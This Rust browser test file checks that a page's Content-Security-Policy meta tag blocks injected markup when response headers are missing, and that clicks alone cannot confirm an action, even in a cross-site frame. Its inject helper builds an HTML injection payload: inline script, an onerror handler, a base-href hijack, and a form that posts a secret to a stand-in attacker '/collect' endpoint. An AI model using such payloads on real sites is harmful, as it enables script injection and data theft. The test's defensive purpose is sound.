//! Pages that lose every security header. The policy in the page's meta tag must still block injected
//! markup; the control is the same page without that tag, where each piece acts. And clicks alone must
//! still not confirm an action.

use unframed::verify::browser::attacker::in_a_frame;

use super::condition::Condition;
use super::driver::Session;
use super::victim::{ARRIVAL, FINAL, TICK, Victim, let_human_time_pass};
use super::world::{Site, World};
use crate::actions::starts_without_script;

/// Which pieces of an injection acted.
#[derive(Debug, PartialEq, Eq)]
struct Acted {
    script: bool,
    handler: bool,
    plugin: bool,
    base: bool,
    form: bool,
}

const ALL: Acted = Acted { script: true, handler: true, plugin: true, base: true, form: true };
const NONE: Acted = Acted { script: false, handler: false, plugin: false, base: false, form: false };

async fn inject(world: &World, session: &Session, without_meta: bool) -> Acted {
    let evil = |path: &str| world.attacker(Site::Cross, path);
    let viewport = r#"<meta name="viewport""#;
    let base = format!(r#"<base href="{}">{viewport}"#, evil("/base/"));
    let markup = format!(
        r#"<script>document.documentElement.dataset.script = "ran"</script>
           <img src="data:," alt="" onerror="document.documentElement.dataset.handler = 'ran'">
           <object data="{}" type="text/html" width="300" height="60"></object>
           <a id="relative" href="relative">relative</a>
           <form action="{}" method="post"><input name="secret" value="x"><button id="foreign">Go on</button></form></main>"#,
        evil("/blank"),
        evil("/collect?form")
    );
    let mut edits = vec![(viewport, base), ("</main>", markup)];
    if without_meta {
        edits.push((r#"<meta http-equiv="Content-Security-Policy""#, r#"<meta name="none""#.to_owned()));
    }
    let edits: Vec<(&str, &str)> = edits.iter().map(|(from, to)| (*from, to.as_str())).collect();
    world.edit(&edits);
    world.set(Condition::WithoutAny);
    world.forget();
    session.goto(&world.victim("/sign-in")).await;
    world.settle(session, None).await;
    let state = session
        .run(
            "const object = document.querySelector('object');
             return {
                 script: document.documentElement.dataset.script === 'ran',
                 handler: document.documentElement.dataset.handler === 'ran',
                 plugin: window.length > 0 && object.contentWindow !== null,
                 base: new URL(document.getElementById('relative').href).pathname.startsWith('/base/'),
             };",
        )
        .await;
    let button = session.driver.find(thirtyfour::By::Id("foreign")).await.expect("the button");
    button.click().await.expect("clicked");
    let stolen = || world.seen(|seen| seen.stolen.iter().any(|what| what.starts_with("form secret=x")));
    if without_meta {
        session.wait_until("the form goes to the attacker", stolen).await;
    } else {
        world.settle(session, None).await;
    }
    let said = |name: &str| state[name].as_bool().expect("a boolean");
    Acted {
        script: said("script"),
        handler: said("handler"),
        plugin: said("plugin"),
        base: said("base"),
        form: stolen(),
    }
}

#[tokio::test]
async fn the_meta_tag_blocks_injected_markup_without_response_headers() {
    let world = World::https().await;
    let session = Session::open(&world.key).await;
    assert_eq!(inject(&world, &session, true).await, ALL, "without the meta tag every piece acts");
    assert_eq!(inject(&world, &session, false).await, NONE, "the meta tag blocks every piece");
    session.close().await;
}

/// At top level, and in a sibling's frame where even the gate is blind: clicks alone, and the form as
/// it was served, do nothing.
#[tokio::test]
async fn clicks_alone_do_not_confirm_an_action_without_response_headers() {
    let world = World::https().await;
    let session = Session::open(&world.key).await;
    let victim = Victim::sign_up(&world, &session).await;
    for start in starts_without_script() {
        world.set(Condition::Intact);
        let confirm = victim.begin(start).await;
        let before = victim.account().await;
        for condition in [Condition::WithoutAny, Condition::Blind] {
            world.set(condition);
            let at = world.victim(&confirm);
            if condition == Condition::Blind {
                session.goto(&world.attacker(Site::Sibling, &in_a_frame(&at))).await;
                session.driver.enter_frame(0).await.expect("the frame");
            } else {
                session.goto(&at).await;
            }
            victim.click(ARRIVAL).await;
            session.appears(TICK).await;
            world.forget();
            let_human_time_pass(&world);
            victim.click(TICK).await;
            victim.click(FINAL).await;
            assert_eq!(world.writes(), [""; 0], "{start}, {condition:?}: the browser asks for the password");
            session.run("document.querySelector('form.confirm').submit()").await;
            session.appears(".error-summary").await;
            assert_eq!(victim.account().await, before, "{start}, {condition:?}");
        }
        session.driver.enter_default_frame().await.expect("the page");
        world.set(Condition::Intact);
        session.goto(&world.victim(&confirm)).await;
        victim.click(ARRIVAL).await;
        session.appears(TICK).await;
        victim.confirm().await;
        assert_eq!(victim.account().await.confirmed, before.confirmed + 1, "{start}: the owner can confirm");
    }
    session.close().await;
}
